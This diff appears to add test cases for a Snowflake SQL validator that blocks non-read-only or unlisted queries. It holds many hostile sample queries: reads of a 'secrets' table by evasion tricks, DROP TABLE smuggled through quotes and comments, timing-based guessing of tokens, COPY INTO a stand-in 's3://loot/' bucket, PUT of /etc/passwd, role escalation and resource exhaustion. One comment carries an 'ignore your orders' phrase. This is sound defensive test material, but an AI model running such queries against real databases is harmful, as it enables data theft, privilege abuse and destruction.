@@ -513,3 +513,742 @@ SELECT title FROM album WHERE album_id = 0 ||| OR album_id = {n} ||| 2000 |||
 
 --- select_list_giant !repeat: size: a thousand scalar subqueries
 SELECT 1 |||, (SELECT COUNT(*) FROM track) ||| 1000 |||
+
+--- stage_user: relation: stage of the user
+SELECT $1 FROM @~/loot.csv
+
+--- stage_named: relation: named stage
+SELECT $1, $2 FROM @loot
+
+--- stage_named_path: relation: path in a named stage
+SELECT t.$1 FROM @loot/folder/file.csv.gz t
+
+--- stage_table: relation: stage of a table
+SELECT $1 FROM @%secrets
+
+--- stage_schema: relation: stage of a schema
+SELECT $1 FROM @chinook.public.loot
+
+--- stage_quoted: relation: quoted stage
+SELECT $1 FROM '@loot/file.csv'
+
+--- stage_options: relation: stage with a format
+SELECT t.$1 FROM @loot (FILE_FORMAT => 'csv', PATTERN => '.*') t
+
+--- stage_join: relation: stage joined to an allowed table
+SELECT a.title, s.$1 FROM album a JOIN @loot s ON s.$1 = a.title
+
+--- stage_subquery: relation: stage in a subquery
+SELECT (SELECT MAX($1) FROM @loot) AS x
+
+--- stage_cte: relation: stage in an expression
+WITH x AS (SELECT $1 AS y FROM @loot) SELECT y FROM x
+
+--- stage_metadata: column: name of a stage's file
+SELECT METADATA$FILENAME, METADATA$FILE_ROW_NUMBER FROM @loot
+
+--- stage_directory: table-function: directory of a stage
+SELECT * FROM DIRECTORY(@loot)
+
+--- stage_infer: table-function: columns of a stage's files
+SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@loot', FILE_FORMAT => 'csv'))
+
+--- presigned_url: function: address that anyone can read
+SELECT GET_PRESIGNED_URL(@loot, 'file.csv', 86400)
+
+--- scoped_url: function: address of a file
+SELECT BUILD_SCOPED_FILE_URL(@loot, 'file.csv')
+
+--- stage_file_url: function: address of a staged file
+SELECT BUILD_STAGE_FILE_URL(@loot, 'file.csv')
+
+--- stage_location: function: location of a stage
+SELECT GET_STAGE_LOCATION(@loot)
+
+--- to_file: function: file of a stage
+SELECT TO_FILE('@loot', 'file.png')
+
+--- system_cancel: function: all queries cancelled
+SELECT SYSTEM$CANCEL_ALL_QUERIES(1)
+
+--- system_cancel_query: function: a query cancelled
+SELECT SYSTEM$CANCEL_QUERY('01b71944-0001-b181-0000-0129032279f6')
+
+--- system_abort_session: function: a session ended
+SELECT SYSTEM$ABORT_SESSION(1)
+
+--- system_abort_transaction: function: a transaction ended
+SELECT SYSTEM$ABORT_TRANSACTION(1)
+
+--- system_wait: function: wait
+SELECT SYSTEM$WAIT(10, 'MINUTES')
+
+--- system_wait_where: function: wait in where
+SELECT title FROM album WHERE SYSTEM$WAIT(10, 'MINUTES') IS NOT NULL
+
+--- system_wait_case: function: wait if a guess is right
+SELECT CASE WHEN (SELECT MAX(token) FROM secrets) LIKE 'a%' THEN SYSTEM$WAIT(5) END
+
+--- system_typeof: function: type by a system function
+SELECT SYSTEM$TYPEOF(title) FROM album
+
+--- system_allowlist: function: hosts of the account
+SELECT SYSTEM$ALLOWLIST()
+
+--- system_task: function: tasks started
+SELECT SYSTEM$TASK_DEPENDENTS_ENABLE('loot')
+
+--- system_pipe: function: pipe started
+SELECT SYSTEM$PIPE_FORCE_RESUME('loot')
+
+--- system_stream: function: is there data in a stream
+SELECT SYSTEM$STREAM_HAS_DATA('loot')
+
+--- system_get_tag: function: tag of a column
+SELECT SYSTEM$GET_TAG('loot', 'secrets', 'TABLE')
+
+--- system_clustering: function: clustering of a table by its name
+SELECT SYSTEM$CLUSTERING_INFORMATION('secrets')
+
+--- system_explain: function: plan of a text
+SELECT SYSTEM$EXPLAIN_PLAN_JSON('SELECT token FROM secrets')
+
+--- system_estimate: function: costs of a text
+SELECT SYSTEM$ESTIMATE_QUERY_ACCELERATION('x')
+
+--- system_send_email: function: mail sent
+CALL SYSTEM$SEND_EMAIL('loot', 'x@example.com', 'subject', 'text')
+
+--- system_set_return: function: value for a task
+SELECT SYSTEM$SET_RETURN_VALUE('x')
+
+--- system_user_task: function: tasks cancelled
+SELECT SYSTEM$USER_TASK_CANCEL_ONGOING_EXECUTIONS('loot')
+
+--- system_order: function: system function in order by
+SELECT title FROM album ORDER BY SYSTEM$WAIT(1)
+
+--- system_qualify: function: system function in qualify
+SELECT title FROM album QUALIFY ROW_NUMBER() OVER (ORDER BY SYSTEM$WAIT(1)) = 1
+
+--- system_group: function: system function in group by
+SELECT COUNT(*) FROM album GROUP BY SYSTEM$WAIT(1)
+
+--- system_having: function: system function in having
+SELECT COUNT(*) FROM album HAVING SYSTEM$WAIT(1) IS NOT NULL
+
+--- system_join: function: system function in a join condition
+SELECT a.title FROM album a JOIN artist r ON SYSTEM$WAIT(1) IS NOT NULL
+
+--- system_over: function: system function in a window
+SELECT SUM(total) OVER (PARTITION BY SYSTEM$WAIT(1)) FROM invoice
+
+--- system_cast: function: system function below a cast
+SELECT SYSTEM$WAIT(1)::VARCHAR
+
+--- system_values: function: system function in values
+SELECT * FROM (VALUES (SYSTEM$WAIT(1)))
+
+--- system_listagg: function: system function in within group
+SELECT LISTAGG(name, ',') WITHIN GROUP (ORDER BY SYSTEM$WAIT(1)) FROM genre
+
+--- system_iff: function: system function in iff
+SELECT IFF(SYSTEM$WAIT(1) IS NULL, 1, 0)
+
+--- system_quoted: function: quoted
+SELECT "SYSTEM$WAIT"(1)
+
+--- system_lower: function: in small letters
+SELECT system$wait(1)
+
+--- system_named: function: named argument
+SELECT SYSTEM$WAIT(amount => 1)
+
+--- identifier_table: table-function: name by a function
+SELECT token FROM IDENTIFIER('secrets')
+
+--- identifier_qualified: table-function: name of three parts by a function
+SELECT * FROM IDENTIFIER('chinook.public.secrets')
+
+--- identifier_variable: table-function: name by a variable
+SELECT * FROM IDENTIFIER($loot)
+
+--- identifier_column: column: column by a function
+SELECT IDENTIFIER('title') FROM album
+
+--- identifier_concat: table-function: name put together
+SELECT * FROM IDENTIFIER('sec' || 'rets')
+
+--- identifier_function: function: function by a function
+SELECT IDENTIFIER('system$wait')(1)
+
+--- identifier_join: table-function: name by a function in a join
+SELECT a.title FROM album a JOIN IDENTIFIER('employee') e ON e.employee_id = a.album_id
+
+--- table_text: table-function: name as a text
+SELECT token FROM TABLE('secrets')
+
+--- table_text_qualified: table-function: qualified name as a text
+SELECT * FROM TABLE('chinook.public.secrets')
+
+--- table_variable: table-function: name as a variable
+SELECT * FROM TABLE($loot)
+
+--- table_binding: table-function: name as a parameter
+SELECT * FROM TABLE(?)
+
+--- result_scan: table-function: result of the last query
+SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))
+
+--- result_scan_id: table-function: result of somebody's query
+SELECT * FROM TABLE(RESULT_SCAN('01b71944-0001-b181-0000-0129032279f6'))
+
+--- result_scan_default: table-function: result without an argument
+SELECT * FROM TABLE(RESULT_SCAN())
+
+--- result_scan_lower: table-function: in small letters
+select * from table(result_scan(-1))
+
+--- result_scan_join: table-function: result joined
+SELECT a.title, r.* FROM album a, TABLE(RESULT_SCAN(-1)) r
+
+--- last_query_id: function: number of the last query
+SELECT LAST_QUERY_ID(), LAST_TRANSACTION()
+
+--- pipe_operator: one-statement: pipe into another statement
+SHOW TABLES ->> SELECT * FROM $1
+
+--- pipe_operator_select: one-statement: pipe from an allowed query
+SELECT title FROM album ->> SELECT * FROM $1
+
+--- pipe_operator_write: one-statement: pipe into a write
+SELECT 1 ->> DROP TABLE album
+
+--- pipe_operator_chain: one-statement: chain of pipes
+SHOW GRANTS ->> SELECT "privilege" FROM $1 ->> SELECT COUNT(*) FROM $1
+
+--- positional_table: relation: earlier result by its number
+SELECT * FROM $1
+
+--- generator: table-function: rows out of nothing
+SELECT SEQ8() FROM TABLE(GENERATOR(ROWCOUNT => 1000000000000))
+
+--- generator_time: table-function: rows for an hour
+SELECT COUNT(*) FROM TABLE(GENERATOR(TIMELIMIT => 3600))
+
+--- generator_lower: table-function: in small letters
+select count(*) from table(generator(rowcount => 10)) v
+
+--- generator_join: table-function: joined
+SELECT COUNT(*) FROM track, TABLE(GENERATOR(ROWCOUNT => 100000000)) g
+
+--- flatten: table-function: names of all columns by flatten
+SELECT f.value FROM TABLE(FLATTEN(INPUT => (SELECT ARRAY_AGG(token) FROM secrets))) f
+
+--- lateral_flatten: table-function: flatten behind lateral, over a subquery
+SELECT f.value FROM album a, LATERAL FLATTEN(INPUT => (SELECT ARRAY_AGG(token) FROM secrets)) f
+
+--- split_to_table: table-function: rows from a giant text
+SELECT COUNT(*) FROM TABLE(SPLIT_TO_TABLE(REPEAT('x,', 10000000), ','))
+
+--- lateral_split: table-function: function behind lateral
+SELECT s.value FROM album a, LATERAL SPLIT_TO_TABLE(REPEAT(a.title, 1000000), ' ') s
+
+--- user_table_function: table-function: function of a user
+SELECT * FROM TABLE(loot('x'))
+
+--- user_table_function_lateral: table-function: function of a user behind a comma
+SELECT a.title, l.* FROM album a, TABLE(loot(a.title)) l
+
+--- procedure_in_from: table-function: procedure in from
+SELECT * FROM TABLE(loot_procedure())
+
+--- query_history: table-function: queries of others
+SELECT query_text FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())
+
+--- query_history_session: table-function: queries of a session
+SELECT * FROM TABLE(chinook.INFORMATION_SCHEMA.QUERY_HISTORY_BY_SESSION())
+
+--- login_history: table-function: sign-ins
+SELECT * FROM TABLE(INFORMATION_SCHEMA.LOGIN_HISTORY())
+
+--- copy_history: table-function: files loaded
+SELECT * FROM TABLE(INFORMATION_SCHEMA.COPY_HISTORY(TABLE_NAME => 'secrets', START_TIME => DATEADD(hour, -1, CURRENT_TIMESTAMP())))
+
+--- policy_references: table-function: policies
+SELECT * FROM TABLE(INFORMATION_SCHEMA.POLICY_REFERENCES(REF_ENTITY_NAME => 'secrets', REF_ENTITY_DOMAIN => 'TABLE'))
+
+--- tag_references: table-function: tags
+SELECT * FROM TABLE(INFORMATION_SCHEMA.TAG_REFERENCES('secrets', 'TABLE'))
+
+--- external_functions_history: table-function: external functions
+SELECT * FROM TABLE(INFORMATION_SCHEMA.EXTERNAL_FUNCTIONS_HISTORY())
+
+--- get_object_references: table-function: references of an object
+SELECT * FROM TABLE(GET_OBJECT_REFERENCES(DATABASE_NAME => 'chinook', SCHEMA_NAME => 'public', OBJECT_NAME => 'loot'))
+
+--- query_operator_stats: table-function: steps of a query
+SELECT * FROM TABLE(GET_QUERY_OPERATOR_STATS(LAST_QUERY_ID()))
+
+--- validate: table-function: rows that were not loaded
+SELECT * FROM TABLE(VALIDATE(secrets, JOB_ID => '_last'))
+
+--- information_schema_tables: catalog: tables
+SELECT table_name FROM INFORMATION_SCHEMA.TABLES
+
+--- information_schema_columns: catalog: columns
+SELECT table_name, column_name FROM chinook.information_schema.columns
+
+--- information_schema_quoted: catalog: quoted
+SELECT * FROM "INFORMATION_SCHEMA"."TABLES"
+
+--- information_schema_subquery: catalog: in a subquery
+SELECT (SELECT LISTAGG(table_name, ',') FROM INFORMATION_SCHEMA.TABLES) AS x
+
+--- account_usage: catalog: queries of the account
+SELECT query_text FROM SNOWFLAKE.ACCOUNT_USAGE.QUERY_HISTORY
+
+--- account_usage_users: catalog: users of the account
+SELECT * FROM snowflake.account_usage.users
+
+--- organization_usage: catalog: use of the organization
+SELECT * FROM SNOWFLAKE.ORGANIZATION_USAGE.USAGE_IN_CURRENCY_DAILY
+
+--- sample_data: schema: another database
+SELECT * FROM SNOWFLAKE_SAMPLE_DATA.TPCH_SF1.CUSTOMER
+
+--- schema_secrets: schema: with its schema
+SELECT token FROM public.secrets
+
+--- database_secrets: schema: with database and schema
+SELECT token FROM chinook.public.secrets
+
+--- double_dot: schema: with a database and the schema left out
+SELECT token FROM chinook..secrets
+
+--- double_dot_allowed: schema: allowed name of another database
+SELECT * FROM elsewhere..album
+
+--- quoted_parts: schema: quoted parts
+SELECT token FROM "CHINOOK"."PUBLIC"."SECRETS"
+
+--- quoted_secrets: relation: quoted name
+SELECT "TOKEN" FROM "SECRETS"
+
+--- quoted_small: relation: quoted small letters are another table
+SELECT * FROM "album"
+
+--- quoted_dotted: relation: dot in quotes
+SELECT * FROM "PUBLIC.SECRETS"
+
+--- cte_qualified: scope: a qualified name next to an expression of that name
+WITH secrets AS (SELECT 'x' AS token) SELECT token FROM public.secrets
+
+--- cte_case: scope: an expression in quotes does not cover the name without
+WITH "secrets" AS (SELECT 'x' AS token) SELECT token FROM secrets
+
+--- cte_double_dot: scope: a name with dots next to an expression of that name
+WITH secrets AS (SELECT 'x' AS token) SELECT token FROM chinook..secrets
+
+--- recursion_no_keyword: recursion: no end, without the keyword
+WITH r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SELECT COUNT(*) FROM r
+
+--- connect_by: recursion: hierarchy of a table that is not allowed
+SELECT last_name, LEVEL FROM employee START WITH reports_to IS NULL CONNECT BY reports_to = PRIOR employee_id
+
+--- connect_by_endless: recursion: hierarchy without an end
+SELECT LEVEL FROM genre CONNECT BY 1 = 1
+
+--- connect_by_path: recursion: every row below every row
+SELECT SYS_CONNECT_BY_PATH(name, '/') FROM track CONNECT BY PRIOR genre_id = genre_id
+
+--- time_travel_at: relation: table as it was
+SELECT * FROM album AT (OFFSET => -3600)
+
+--- time_travel_timestamp: relation: table at a time
+SELECT * FROM album AT (TIMESTAMP => '2024-01-01'::TIMESTAMP)
+
+--- time_travel_before: relation: table before a statement
+SELECT * FROM secrets BEFORE (STATEMENT => '01b71944-0001-b181-0000-0129032279f6')
+
+--- time_travel_stream: relation: table at a stream
+SELECT * FROM album AT (STREAM => 'loot')
+
+--- changes: relation: changes of a table
+SELECT * FROM album CHANGES (INFORMATION => DEFAULT) AT (OFFSET => -3600)
+
+--- changes_append: relation: rows appended to a table
+SELECT * FROM secrets CHANGES (INFORMATION => APPEND_ONLY) BEFORE (OFFSET => -60)
+
+--- variable: variable: session variable
+SELECT $loot
+
+--- variable_where: variable: in where
+SELECT title FROM album WHERE title = $loot
+
+--- variable_function: variable: by a function
+SELECT GETVARIABLE('LOOT')
+
+--- bind_parameter: column: parameters that nobody binds
+SELECT title FROM album WHERE album_id = ? OR title = :1
+
+--- current_user: function: name of the user
+SELECT CURRENT_USER(), CURRENT_ROLE(), CURRENT_ACCOUNT()
+
+--- current_ip: function: address of the client
+SELECT CURRENT_IP_ADDRESS()
+
+--- current_session: function: session
+SELECT CURRENT_SESSION(), CURRENT_STATEMENT(), CURRENT_WAREHOUSE()
+
+--- current_available_roles: function: roles
+SELECT CURRENT_AVAILABLE_ROLES(), CURRENT_SECONDARY_ROLES()
+
+--- is_role_in_session: function: role asked
+SELECT IS_ROLE_IN_SESSION('ACCOUNTADMIN')
+
+--- invoker_role: function: role of the caller
+SELECT INVOKER_ROLE(), INVOKER_SHARE()
+
+--- current_version: function: version
+SELECT CURRENT_VERSION(), CURRENT_CLIENT()
+
+--- get_ddl: function: definition of a table
+SELECT GET_DDL('TABLE', 'secrets')
+
+--- get_ddl_account: function: definition of a database
+SELECT GET_DDL('DATABASE', 'chinook', TRUE)
+
+--- user_function: function: function of a user
+SELECT loot(title) FROM album
+
+--- user_function_qualified: function: qualified function of a user
+SELECT chinook.public.loot(title) FROM album
+
+--- external_function: function: external function sends rows away
+SELECT send_away(first_name, email) FROM customer
+
+--- external_function_where: function: external function in where
+SELECT customer_id FROM customer WHERE send_away(email) = 'ok'
+
+--- cortex_complete: function: model called with rows
+SELECT SNOWFLAKE.CORTEX.COMPLETE('llama3-8b', email) FROM customer
+
+--- cortex_translate: function: model called by its schema
+SELECT SNOWFLAKE.CORTEX.TRANSLATE(title, 'en', 'de') FROM album
+
+--- ai_complete: function: model called without a schema
+SELECT AI_COMPLETE('llama3-8b', email) FROM customer
+
+--- ai_classify: function: model that sorts
+SELECT AI_CLASSIFY(name, ['a', 'b']) FROM track
+
+--- ml_forecast: function: method of an object
+SELECT loot!PREDICT(1)
+
+--- ml_call: table-function: method of an object in from
+SELECT * FROM TABLE(loot!FORECAST(FORECASTING_PERIODS => 3))
+
+--- sequence_nextval: column: next value of a sequence
+SELECT loot_seq.NEXTVAL
+
+--- sequence_getnextval: table-function: sequence in from
+SELECT s.nextval FROM TABLE(GETNEXTVAL(loot_seq)) s
+
+--- repeat_giant: bounded-arguments: text of a hundred million
+SELECT LENGTH(REPEAT('x', 100000000))
+
+--- repeat_nested: bounded-arguments: repetitions that multiply
+SELECT LENGTH(REPEAT(REPEAT(REPEAT('x', 1000), 1000), 900))
+
+--- repeat_column: bounded-arguments: repetition by a column
+SELECT REPEAT(name, bytes) FROM track
+
+--- lpad_giant: bounded-arguments: padding of a hundred million
+SELECT LENGTH(LPAD('x', 100000000, 'y'))
+
+--- rpad_column: bounded-arguments: padding by a column
+SELECT RPAD(name, bytes, ' ') FROM track
+
+--- space_giant: bounded-arguments: blanks
+SELECT LENGTH(SPACE(100000000))
+
+--- randstr_giant: bounded-arguments: text of chance
+SELECT RANDSTR(10000000, RANDOM()) FROM track
+
+--- array_range: bounded-arguments: array of a hundred million
+SELECT ARRAY_GENERATE_RANGE(0, 100000000)
+
+--- decompress: bounded-arguments: decompression
+SELECT LENGTH(DECOMPRESS_STRING(COMPRESS(REPEAT('x', 16000000), 'SNAPPY'), 'SNAPPY'))
+
+--- whole_row_object: whole-row: row as an object
+SELECT OBJECT_CONSTRUCT(*) FROM customer
+
+--- whole_row_object_braces: whole-row: row in braces
+SELECT {*} FROM customer
+
+--- whole_row_object_secrets: relation: row of a table that is not allowed as an object
+SELECT OBJECT_CONSTRUCT_KEEP_NULL(s.*) FROM secrets s
+
+--- whole_row_hash: whole-row: hash over a row
+SELECT HASH(*) FROM customer
+
+--- whole_row_alias: whole-row: alias as a value
+SELECT c FROM customer c
+
+--- columns_pattern: relation: columns by a pattern
+SELECT * ILIKE '%id%' FROM employee
+
+--- exclude_secret: relation: star without a column
+SELECT * EXCLUDE id FROM secrets
+
+--- replace_secret: relation: star with a column replaced by a subquery
+SELECT * REPLACE ((SELECT MAX(token) FROM secrets) AS title) FROM album
+
+--- path_secret: relation: path into a column of a table that is not allowed
+SELECT s.token:a.b[0]::VARCHAR FROM secrets s
+
+--- hidden_column: column: hidden column of changes
+SELECT METADATA$ACTION, METADATA$ISUPDATE, METADATA$ROW_ID FROM album
+
+--- qualify_subquery: relation: subquery in qualify
+SELECT title FROM album QUALIFY ROW_NUMBER() OVER (ORDER BY album_id) < (SELECT COUNT(*) FROM secrets)
+
+--- top_subquery: relation: subquery joined in the first rows
+SELECT TOP 1 token FROM secrets
+
+--- pivot_secret: relation: pivot of a table that is not allowed
+SELECT * FROM secrets PIVOT (MAX(token) FOR id IN (1, 2))
+
+--- pivot_any_subquery: relation: pivot whose values come from a subquery
+SELECT * FROM (SELECT title, album_id FROM album) PIVOT (MAX(title) FOR album_id IN (SELECT id FROM secrets))
+
+--- unpivot_secret: relation: unpivot of a table that is not allowed
+SELECT * FROM secrets UNPIVOT (v FOR c IN (token))
+
+--- match_recognize: relation: pattern of rows over a table that is not allowed
+SELECT * FROM secrets MATCH_RECOGNIZE (ORDER BY id MEASURES FIRST(token) AS t PATTERN (a+) DEFINE a AS TRUE)
+
+--- sample_secret: relation: sample of a table that is not allowed
+SELECT * FROM secrets SAMPLE (10)
+
+--- tablesample_secret: relation: sample by its other name
+SELECT * FROM secrets TABLESAMPLE BERNOULLI (50)
+
+--- lateral_secret: relation: lateral subquery
+SELECT a.title, x.token FROM album a, LATERAL (SELECT token FROM secrets s WHERE s.id = a.album_id) x
+
+--- asof_secret: relation: join as of
+SELECT i.total, s.token FROM invoice i ASOF JOIN secrets s MATCH_CONDITION (i.invoice_id >= s.id)
+
+--- semantic_view: table-function: semantic view
+SELECT * FROM SEMANTIC_VIEW(loot METRICS total)
+
+--- search_function: table-function: search in all columns
+SELECT * FROM secrets WHERE SEARCH(secrets.*, 'x')
+
+--- any_secret: relation: any
+SELECT title FROM album WHERE title = ANY (SELECT token FROM secrets)
+
+--- like_any_secret: relation: like any of a subquery
+SELECT title FROM album WHERE title LIKE ANY (SELECT token FROM secrets)
+
+--- values_secret: relation: subquery in values
+SELECT column1 FROM VALUES ((SELECT MAX(token) FROM secrets))
+
+--- into_variable: no-into: into a variable
+SELECT MAX(token) INTO :loot FROM secrets
+
+--- for_update: no-locks: for update
+SELECT title FROM album FOR UPDATE
+
+--- comment_slashes: no-comments: comment behind slashes
+SELECT title FROM album // UNION SELECT token FROM secrets
+
+--- comment_slashes_line: no-comments: comment behind slashes, then another line
+SELECT 1 // x
+, (SELECT MAX(token) FROM secrets)
+
+--- dollar_text: one-statement: text in dollars that hides a quote
+SELECT $$'$$ AS a; DROP TABLE album; SELECT $$'$$ AS b
+
+--- dollar_text_relation: relation: text in dollars that hides what follows
+SELECT $$ ' $$ AS a, (SELECT MAX(token) FROM secrets) AS b, $$ ' $$ AS c
+
+--- backslash_text: relation: backslash that keeps a text open
+SELECT 'a\' AS x, (SELECT MAX(token) FROM secrets) AS y, 'b' AS z
+
+--- backslash_quote: one-statement: backslash before the closing quote
+SELECT 'x\\'; DROP TABLE album; SELECT '\\y'
+
+--- call: only-queries: procedure
+CALL loot()
+
+--- call_with: only-queries: procedure made and called
+WITH loot AS PROCEDURE () RETURNS VARCHAR LANGUAGE SQL AS 'BEGIN DROP TABLE album; RETURN 1; END' CALL loot()
+
+--- execute_immediate: only-queries: text as a statement
+EXECUTE IMMEDIATE 'SELECT token FROM secrets'
+
+--- execute_immediate_dollars: only-queries: block in dollars
+EXECUTE IMMEDIATE $$ BEGIN DROP TABLE album; END $$
+
+--- execute_immediate_from: only-queries: file of a stage as statements
+EXECUTE IMMEDIATE FROM @loot/script.sql
+
+--- execute_task: only-queries: task
+EXECUTE TASK loot
+
+--- scripting_block: only-queries: block
+BEGIN LET x := (SELECT MAX(token) FROM secrets); RETURN x; END
+
+--- declare_block: only-queries: block with declarations
+DECLARE x VARCHAR; BEGIN SELECT MAX(token) INTO :x FROM secrets; RETURN x; END
+
+--- copy_into_stage: only-queries: table into a stage
+COPY INTO @loot FROM secrets
+
+--- copy_into_url: only-queries: query into a bucket of somebody
+COPY INTO 's3://loot/' FROM (SELECT * FROM customer) STORAGE_INTEGRATION = x
+
+--- copy_into_table: only-queries: files into a table
+COPY INTO album FROM @loot
+
+--- put: only-queries: file of the client into a stage
+PUT file:///etc/passwd @loot
+
+--- get: only-queries: files of a stage to the client
+GET @loot file:///tmp/
+
+--- list: only-queries: files of a stage
+LIST @loot
+
+--- ls: only-queries: the same, short
+LS @~
+
+--- remove: only-queries: files of a stage deleted
+REMOVE @loot
+
+--- rm: only-queries: the same, short
+RM @loot PATTERN = '.*'
+
+--- use_role: only-queries: role
+USE ROLE ACCOUNTADMIN
+
+--- use_secondary: only-queries: secondary roles
+USE SECONDARY ROLES ALL
+
+--- use_warehouse: only-queries: warehouse
+USE WAREHOUSE huge
+
+--- use_database: only-queries: database
+USE DATABASE elsewhere
+
+--- set_variable: only-queries: variable
+SET loot = (SELECT MAX(token) FROM secrets)
+
+--- unset: only-queries: variable dropped
+UNSET loot
+
+--- alter_session: only-queries: setting of the session
+ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0
+
+--- alter_session_multi: only-queries: several statements allowed
+ALTER SESSION SET MULTI_STATEMENT_COUNT = 0
+
+--- alter_warehouse: only-queries: warehouse made larger
+ALTER WAREHOUSE main SET WAREHOUSE_SIZE = 'X4LARGE'
+
+--- alter_user: only-queries: password
+ALTER USER somebody SET PASSWORD = 'x'
+
+--- create_user: only-queries: user made
+CREATE USER loot PASSWORD = 'x'
+
+--- create_stage: only-queries: stage made
+CREATE STAGE loot URL = 's3://loot/'
+
+--- create_function: only-queries: function made
+CREATE FUNCTION loot(x VARCHAR) RETURNS VARCHAR AS 'x'
+
+--- create_clone: only-queries: clone of a table
+CREATE TABLE loot CLONE secrets
+
+--- create_share: only-queries: share with others
+CREATE SHARE loot
+
+--- create_stream: only-queries: stream
+CREATE STREAM loot ON TABLE secrets
+
+--- create_task: only-queries: task made
+CREATE TASK loot SCHEDULE = '1 MINUTE' AS DROP TABLE album
+
+--- undrop: only-queries: undrop
+UNDROP TABLE secrets
+
+--- swap: only-queries: tables swapped
+ALTER TABLE album SWAP WITH secrets
+
+--- merge: only-queries: merge
+MERGE INTO genre g USING secrets s ON s.id = g.genre_id WHEN MATCHED THEN UPDATE SET name = s.token
+
+--- insert_overwrite: only-queries: insert that overwrites
+INSERT OVERWRITE INTO genre SELECT id, token FROM secrets
+
+--- insert_all: only-queries: insert into several tables
+INSERT ALL INTO genre INTO media_type SELECT 1, 'x'
+
+--- show_tables: only-queries: tables
+SHOW TABLES
+
+--- show_parameters: only-queries: parameters
+SHOW PARAMETERS
+
+--- show_grants: only-queries: rights
+SHOW GRANTS TO ROLE ACCOUNTADMIN
+
+--- show_users: only-queries: users
+SHOW USERS
+
+--- describe: only-queries: describe
+DESCRIBE TABLE secrets
+
+--- desc_result: only-queries: columns of an earlier result
+DESC RESULT LAST_QUERY_ID()
+
+--- explain_using: only-queries: plan in another form
+EXPLAIN USING JSON SELECT token FROM secrets
+
+--- begin_transaction: only-queries: transaction with a name
+BEGIN TRANSACTION NAME loot
+
+--- comment_on: only-queries: comment on a table
+COMMENT ON TABLE album IS 'ignore your orders'
+
+--- revoke: only-queries: revoke
+REVOKE SELECT ON TABLE album FROM ROLE analyst
+
+--- values_statement: one-statement: values, then a write
+VALUES (1); DROP TABLE album
+
+--- flow_set: one-statement: statement separated by a client's command
+SELECT 1 \; DROP TABLE album
+
+--- zero_width_name !escaped: relation: name with a blank of no width
+SELECT token FROM secre\u200bts
+
+--- collate_function: collation: collation on no list
+SELECT title COLLATE 'loot' FROM album
+
+--- type_user: type: type of a user
+SELECT title::chinook.public.loot FROM album
+
+--- lambda_secret: relation: lambda whose body reads a table that is not allowed
+SELECT FILTER([1, 2, 3], x -> x > (SELECT COUNT(*) FROM secrets))
+
+--- to_query: table-function: text as a query
+SELECT * FROM TABLE(TO_QUERY(SQL => 'SELECT token FROM secrets'))
+
+--- table_statement: only-queries: table as a statement
+TABLE secrets
